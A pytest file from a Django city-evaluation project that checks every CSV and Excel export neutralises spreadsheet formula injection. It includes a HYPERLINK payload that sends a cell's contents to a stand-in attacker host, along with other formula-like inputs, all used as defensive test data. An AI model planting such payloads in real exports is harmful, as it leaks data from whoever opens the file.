"""Every CSV and Excel file the project writes: a hostile text goes in, no formula comes out.

One test enumerates the writers (audit log CSV, open data Excel and CSV, masterplan template,
offline workbook, `score --output` CSV and Excel) through their pages or commands and opens
each produced file; another holds that no module writes a cell without `core.tabular`.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.core.management import call_command
from django.urls import reverse

from cityeval.core.tabular import (
    append_row,
    csv_document,
    csv_text,
    excel_cell,
    excel_row,
    is_formula_like,
    new_workbook,
    workbook_bytes,
)
from cityeval.evaluations.models import ItemValue
from cityeval.masterplans.models import Masterplan, Program
from cityeval.regions.models import Province, Region
from cityeval.reviews.services import answer_clarification, request_clarification
from tests.world import World

HOSTILE = '=HYPERLINK("http://evil.example/?c="&B2,"x")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


# -- the helper itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS])
def test_a_formula_like_text_is_quoted_in_csv_and_a_text_cell_in_excel(text: str) -> None:
    assert csv_text(text) == "'" + text
    book = new_workbook()
    sheet = book.active
    append_row(sheet, [text])
    cell = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"]  # type: ignore[index]
    # XML reads a carriage return back as a line feed; the text is otherwise kept as it was.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)


@pytest.mark.parametrize(
    "value", [Decimal("-3.10"), -2, -0.5, Decimal("3.10"), 7, "-3.5", "+2", "1E+3"]
)
def test_numbers_stay_numbers_negative_ones_too(value: object) -> None:
    text = csv_text(value)
    assert not text.startswith("'")
    assert text in (str(value), format(value, "f") if isinstance(value, Decimal) else "")
    book = new_workbook()
    append_row(book.active, [value])
    cell = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"]  # type: ignore[index]
    assert cell.data_type == ("s" if isinstance(value, str) else "n")


def test_plain_texts_and_empty_values_pass_unchanged() -> None:
    assert (
        csv_document([["Kota Semarang", None, "a=b", "e-mail"]]) == "Kota Semarang,,a=b,e-mail\r\n"
    )
    assert not is_formula_like("Dinas PU-PR")
    assert excel_cell(new_workbook(write_only=True).create_sheet("x"), "ok").data_type == "s"


def test_a_row_makes_a_cell_only_for_a_formula_like_text_and_keeps_each_style() -> None:
    """openpyxl binds plain values itself: making a cell of each one doubled a national workbook's
    time. A plain value after a styled cell must not take that cell's style (write-only sheets
    reuse one cell for plain values)."""
    book = new_workbook(write_only=True)
    sheet = book.create_sheet("x")
    fixed = excel_cell(sheet, Decimal("3.1"))
    fixed.number_format = "0.00"
    row = excel_row(sheet, [Decimal("2.5"), "Kota Semarang", None, HOSTILE, fixed, 7, "ok"])
    assert [type(value).__name__ for value in row] == [
        "Decimal",
        "str",
        "NoneType",
        "Cell",
        "Cell",
        "int",
        "str",
    ]
    sheet.append(row)
    read = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))["x"]
    cells = next(iter(read.iter_rows()))
    assert [cell.value for cell in cells] == [2.5, "Kota Semarang", None, HOSTILE, 3.1, 7, "ok"]
    assert (cells[3].data_type, cells[3].quotePrefix) == ("s", True)
    assert [cell.number_format for cell in cells[4:6]] == ["0.00", "General"]
    assert not cells[6].quotePrefix


def test_saving_through_the_helper_turns_a_stray_formula_into_text() -> None:
    book = new_workbook()
    book.active["C5"] = HOSTILE  # type: ignore[index]
    cell = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active["C5"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")


# -- every writer --------------------------------------------------------------------------------


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _excel_cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def check_csv(content: bytes, texts: list[str]) -> None:
    cells = _csv_cells(content)
    assert not [cell for cell in cells if is_formula_like(cell)]
    for text in texts:
        assert "'" + text in cells, text  # kept, behind the quote


def check_excel(content: bytes, texts: list[str]) -> None:
    cells = _excel_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = [cell.value for cell in cells if cell.data_type == "s"]
    for text in texts:
        assert text in written, text


# Region B's evaluation in the document review (`World.reviewing_b`) and its people.
def maturity_items(w: World) -> list[ItemValue]:
    return list(
        ItemValue.objects.filter(
            evaluation=w.reviewing_b, indicator__kind="maturity", self_value__isnull=False
        ).order_by("indicator__sequence")
    )


def audit_csv(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
    request_clarification(
        evaluation=w.reviewing_b,
        items=maturity_items(w)[:1],
        message="Mohon jelaskan.",
        user=w.people["assessor_b"],
    )
    answer_clarification(evaluation=w.reviewing_b, user=w.people["coordinator_b"], answer=HOSTILE)
    response = w.client("coordinator_b").get(reverse("evaluations:log", args=[w.reviewing_b.pk]))
    assert response.status_code == 200
    yield "csv", response.content, [HOSTILE]


def open_data(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
    Region.objects.filter(pk=w.region_b.pk).update(full_name=HOSTILE)
    Province.objects.filter(regions__pk=w.region_b.pk).update(name="@SUM(A1:A9)")
    admin = w.client("admin")
    cycle = w.review_cycle.pk
    workbook = admin.get(reverse("exports:xlsx", args=[cycle]))
    regions = admin.get(reverse("exports:regions_csv", args=[cycle]))
    items = admin.get(reverse("exports:items_csv", args=[cycle]))
    assert [r.status_code for r in (workbook, regions, items)] == [200, 200, 200]
    yield "xlsx", workbook.content, [HOSTILE, "@SUM(A1:A9)"]
    yield "csv", regions.content, [HOSTILE, "@SUM(A1:A9)"]
    yield "csv", items.content, [HOSTILE]


def masterplan_template(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
    region = w.region_b
    masterplan = Masterplan.objects.create(
        region=region, title=HOSTILE, start_year=2019, end_year=2028, regulation="Perbup 12/2019"
    )
    Program.objects.create(
        masterplan=masterplan,
        code="P-01",
        name="=1+1",
        description="-2+3",
        dimension="",
        element="",
        owner=w.opd_b,
        budget=Decimal(1000),
        start_year=2020,
        end_year=2021,
    )
    response = w.client("coordinator_b").get(reverse("masterplans:template", args=[region.pk]))
    assert response.status_code == 200
    yield "xlsx", response.content, ["=1+1", "-2+3"]


def offline_workbook(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
    item = maturity_items(w)[0]
    ItemValue.objects.filter(pk=item.pk).update(narrative=HOSTILE)
    request_clarification(
        evaluation=w.reviewing_b, items=[item], message="Lengkapi.", user=w.people["assessor_b"]
    )
    url = reverse("evaluations:workbook_download", args=[w.reviewing_b.pk])
    response = w.client("coordinator_b").get(url)
    assert response.status_code == 200
    yield "xlsx", response.content, [HOSTILE]


def score_output(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
    folder = Path(settings.MEDIA_ROOT)
    codes = [item.indicator.code for item in maturity_items(w)[:3]]
    table = folder / "table.csv"
    table.write_text(
        "region," + ",".join(codes) + "\n" + "=1+1,3,2,1\n" + "@SUM(A1),1,2,3\n", encoding="utf-8"
    )
    for suffix in ("csv", "xlsx"):
        target = folder / f"scores.{suffix}"
        call_command("score", str(table), "--framework", "G100SC@2022", "--output", str(target))
        yield suffix, target.read_bytes(), ["=1+1", "@SUM(A1)"]


WRITERS: dict[str, Callable[[World], Iterator[tuple[str, bytes, list[str]]]]] = {
    "audit log CSV": audit_csv,
    "open data Excel and CSV": open_data,
    "masterplan template": masterplan_template,
    "offline workbook": offline_workbook,
    "score --output": score_output,
}


@pytest.mark.parametrize("writer", WRITERS)
def test_no_writer_lets_a_formula_through(world: World, writer: str) -> None:
    produced = list(WRITERS[writer](world))
    assert produced
    for kind, content, texts in produced:
        (check_csv if kind == "csv" else check_excel)(content, texts)


# -- no module writes a cell any other way -------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "cityeval" / "core" / "tabular.py"
SHEET_WORDS = ("sheet", "readme", "guide")


def _bypasses(tree: ast.AST) -> Iterator[tuple[int, str]]:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            names = {alias.name for alias in node.names} & {"writer", "DictWriter"}
            if names:
                yield node.lineno, f"from csv import {', '.join(sorted(names))}"
        if isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr in ("value", "data_type"):
                    yield node.lineno, f".{target.attr} = (a cell written by hand)"
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        owner = func.value if isinstance(func, ast.Attribute) else None
        owner_name = getattr(owner, "id", "") or getattr(owner, "attr", "")
        if owner_name == "csv" and name in ("writer", "DictWriter"):
            yield node.lineno, f"csv.{name}("
        elif name in ("Workbook", "WriteOnlyCell"):
            yield node.lineno, f"{name}("
        elif name == "append" and any(w in owner_name.lower() for w in SHEET_WORDS):
            yield node.lineno, f"{owner_name}.append("
        elif name == "cell" and (
            any(k.arg == "value" for k in node.keywords) or len(node.args) > 2
        ):
            yield node.lineno, ".cell(..., value=...)"
        elif name == "save" and "book" in owner_name.lower():
            yield node.lineno, f"{owner_name}.save("


def test_every_cell_writer_goes_through_the_helper() -> None:
    found = []
    for path in sorted((ROOT / "cityeval").rglob("*.py")):
        if path == HELPER or "migrations" in path.parts:
            continue
        for line, what in _bypasses(ast.parse(path.read_text(encoding="utf-8"))):
            found.append(f"{path.relative_to(ROOT)}:{line}: {what}")
    assert found == [], "write cells through cityeval.core.tabular:\n" + "\n".join(found)


def test_the_guard_sees_a_writer_that_bypasses_the_helper() -> None:
    source = (
        "import csv, openpyxl\n"
        "w = csv.writer(out)\n"
        "book = openpyxl.Workbook()\n"
        "sheet.append([name])\n"
        "sheet.cell(row=1, column=1, value=name)\n"
        "cell.value = name\n"
        "book.save(path)\n"
    )
    assert sorted(line for line, _ in _bypasses(ast.parse(source))) == [2, 3, 4, 5, 6, 7]


def test_a_workbook_written_for_a_given_time_is_the_same_bytes_each_time() -> None:
    """With `at`, nothing of the clock is in the file: the kept open-data workbook of a
    publication is the bytes the view renders for it (`exports/stored.py`)."""
    import datetime
    import zipfile

    def written(at: datetime.datetime | None) -> bytes:
        book = new_workbook(write_only=True)
        append_row(book.create_sheet("x"), ["=1+1", 3, "teks"])
        return workbook_bytes(book, at=at)

    at = datetime.datetime(2026, 12, 6, 9, 30, tzinfo=datetime.UTC)
    first = written(at)
    assert written(at) == first
    # Each member states the time given (so a later second would not change the bytes either).
    times = {info.date_time for info in zipfile.ZipFile(io.BytesIO(first)).infolist()}
    assert times == {(2026, 12, 6, 9, 30, 0)}
    read = openpyxl.load_workbook(io.BytesIO(first))
    assert read.properties.created == at.replace(tzinfo=None)
    assert read["x"]["A1"].value == "=1+1"
    assert read["x"]["A1"].data_type == "s"
